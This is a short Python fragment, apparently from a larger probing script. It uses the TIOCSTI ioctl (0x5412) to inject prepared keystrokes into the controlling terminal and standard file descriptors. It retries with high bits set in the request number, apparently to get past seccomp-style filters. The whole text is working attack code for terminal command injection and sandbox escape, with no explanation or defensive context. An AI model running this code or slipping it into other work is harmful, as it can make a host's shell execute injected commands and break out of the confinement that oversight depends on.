import fcntl
def push(where, request):
    handle = os.open(where, os.O_RDWR | os.O_NOCTTY) if isinstance(where, str) else where
    for letter in FACTS["typed"]:
        called(libc.ioctl(handle, ctypes.c_ulong(request), letter.encode()))
for where in ["/dev/tty", 0, 1, 2]:
    for request in [0x5412, 0x5412 | (1 << 32), 0x5412 | (0xffff << 32)]:
        attempt((where, hex(request)), lambda: push(where, request))
